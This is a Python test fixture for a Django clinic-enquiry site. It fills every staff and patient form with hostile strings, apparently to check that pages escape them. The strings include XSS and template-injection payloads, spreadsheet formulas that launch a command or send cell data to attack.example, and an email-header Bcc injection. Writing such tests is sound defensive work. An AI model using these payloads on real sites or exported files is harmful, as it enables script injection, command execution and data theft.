"""Texts that attack whoever shows or opens them, and a desk at which every field holds one.

`python manage.py shell -c "from tests.attacks import fill; …"` fills the database of a site.
"""

import datetime

from django.contrib.auth.models import User
from django.urls import reverse
from django.utils import timezone

from mesosite.enquiries.digits import opened
from mesosite.enquiries.models import Enquiry, SavedReply
from mesosite.inbox.accounts import make_login
from mesosite.inbox.roles import ADDRESSES, Role
from tests.enquiries.filled_in import FORM, answers, code_of
from tests.inbox.asking import Browser, press
from tests.inbox.test_access import address

NAMES = (
    """<script>alert(1)</script>"><img src=x onerror=alert(1)>' onmouseover='alert(1)""",
    "</title></textarea></option><svg/onload=alert(1)><a href=javascript:alert(1)>x</a>",
    "W" * 200,
    "javascript:alert(1)//&lt;script&gt;",
    "{{ 7*7 }}{% now 'Y' %}${7*7}<!--",
    """=HYPERLINK("https://attack.example/?"&A1;"x")""",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1",
    "\u202eevil\u2066 \u200bM\u200daria\u200f",
    "BEGIN:VEVENT\\nEND:VCALENDAR;X=Y:MAILTO:x",
)
"""Each on one line, as a name is."""
REFUSED = ("\t=1+1", "\r=1+1", "Maria\r\nBcc: x@attack.example", "Maria\nBEGIN:VEVENT", "x\0y")
"""Not one line, within other signs."""
WORDS = "\n".join((*NAMES, *REFUSED)).replace("https:", "") + "\n" + "W" * 300
"""Over lines. Without an address of the web, for which a request is held as spam."""
EMAIL = '"<img/src=x/onerror=alert(1)>"@attack.example'
WITHOUT_BRACES = WORDS.translate(str.maketrans("{}", "()"))


def browser_of(email: str, name: str, **client: object) -> Browser:
    """Somebody who may see every page, and is called like that."""
    browser = Browser(SERVER_NAME="127.0.0.1", **client)
    person = make_login(email, name="Eleni", roles=list(Role))
    User.objects.filter(pk=person.pk).update(first_name=name)
    browser.force_login(person)
    return browser


def posted(browser: Browser, path: str, data: dict[str, object], status: int = 302) -> object:
    """The answer, which must have this status."""
    answer = browser.post(path, data)
    assert answer.status_code == status, (path, answer.status_code, errors_of(answer))
    return answer


def errors_of(answer: object) -> object:
    form = (answer.context or {}).get("form")
    return form.errors if form else answer.content[:300]


def fill() -> Browser:
    """One request for each of NAMES, in every state, and all else that staff can write.

    Returns the browser of a person whose name is an attack too.
    """
    desk = browser_of("attack@clinic.example", NAMES[0][:150])
    _write_for_clinic(desk)
    requests = [_sent(n, name) for n, name in enumerate(NAMES)]
    when = timezone.localtime() + datetime.timedelta(days=1)
    me = User.objects.get(email="attack@clinic.example").pk
    visit = {"visit_at": f"{when:%Y-%m-%dT10:30}", "person": me, "all_the_same": "on"}
    for n, enquiry in enumerate(requests):
        _work(desk, enquiry, n, visit)
    return desk


def _write_for_clinic(desk: Browser) -> None:
    """Through the forms, as a manager does."""
    today = timezone.localdate()
    closed = {"first_day": today, "last_day": today + datetime.timedelta(days=2)}
    posted(desk, reverse("inbox:closure_new"), closed | {"line": NAMES[0]})
    reply = {"language": "en", "title": NAMES[0][:80], "text": WITHOUT_BRACES}
    posted(desk, reverse("inbox:reply_new"), reply)
    values = {"answer_urgent_within_hours": "2", "urgent_email": EMAIL}
    posted(desk, reverse("inbox:clinic_values"), values)
    invited = {"email": '"<b>x</b>"@clinic.example', "name": NAMES[1], "roles": ["receptionist"]}
    answer = desk.post(reverse("inbox:invite"), invited)
    assert answer.status_code in (200, 302), errors_of(answer)


def _sent(n: int, name: str) -> Enquiry:
    """A patient's request, with a message and a correction that came after it."""
    patient = Browser(SERVER_NAME="127.0.0.1", REMOTE_ADDR=f"192.0.2.{n}")
    phone = f"+306912345{n:03}"
    given = {"name": name, "email": EMAIL, "phone": phone, "contact_by": "either", "language": "en"}
    typed = answers(**given, message=WORDS, problem="no")
    code = code_of(posted(patient, FORM, typed))
    enquiry = Enquiry.objects.get(code=code)
    page = f"/consultation/r/{opened(enquiry)}/"
    if n % 2:
        posted(patient, f"{page}message/", {"problem": "no", "message": WORDS})
    else:
        changed = {"message": WORDS[::-1], "topics": ["peel"], "problem": "no"}
        posted(patient, f"{page}correct/", given | changed)
    enquiry.refresh_from_db()
    return enquiry


def _work(desk: Browser, enquiry: Enquiry, n: int, visit: dict[str, object]) -> None:
    """An answer, a note and a question, and then one of the steps that end in another list."""
    if enquiry.state == "spam":
        return
    last = {"take": {}, "book": visit, "wait": {}, "close": {"reason": "visited"}}
    steps = [("answer", {"to": "answer", "text": WITHOUT_BRACES}), ("note", {"text": WORDS})]
    steps += [("hand_over", {"question": NAMES[0]})]
    if n % 6 < 5:
        name = ("take", "book", "wait", "close", "urgent")[n % 6]
        steps.append((name, last.get(name, {})))
    for step, given in steps:
        answer = press(desk, enquiry, step, **{"text": ""} | given)
        assert answer.status_code == 302, (step, errors_of(answer))
        enquiry.refresh_from_db()
    for entry in enquiry.timeline.filter(undo__isnull=False):
        desk.post(f"/staff/e/{enquiry.code}/send/", {"entry": entry.pk})


def staff_pages(desk: Browser, most: int = len(NAMES)) -> list[str]:
    """Every address that the desk shows, of so many requests, the person and the clinic values."""
    person, reply = User.objects.get(email="attack@clinic.example"), SavedReply.objects.get()
    day = timezone.localdate() + datetime.timedelta(days=1)
    values = {"person": person.pk, "pk": reply.pk, "day": f"{day}"}
    codes = list(Enquiry.objects.order_by("pk").values_list("code", flat=True))
    pages = [address(name, **values, code=codes[0]) for name in ADDRESSES]
    pages += [reverse("inbox:record_of_person", args=[person.pk])]
    pages += [reverse("inbox:enquiry", args=[code]) for code in codes[: most + 1]]
    pages += [f"/staff/e/{codes[0]}/?as=answer", "/staff/?who=mine", "/staff/?who=clinician"]
    found = [desk.post("/staff/find/", {"text": text}) for text in NAMES[: most + 1]]
    return pages + [answer["Location"] for answer in found if answer.status_code == 302]


def patient_pages(most: int = len(NAMES)) -> list[str]:
    """The page of each request, with its correction; the others of one whose visit is booked."""
    requests = list(Enquiry.objects.order_by("-visit_at"))
    booked = next(enquiry for enquiry in requests if enquiry.visit_at)
    names = ("message", "prepare", "withdraw", "cancel_visit", "patient_html")
    pages = [reverse(f"enquiries:{name}", args=[opened(booked)]) for name in names]
    links = [opened(enquiry) for enquiry in requests[:most]]
    return pages + [
        reverse(f"enquiries:{name}", args=[link])
        for name in ("patient", "correct")
        for link in links
    ]
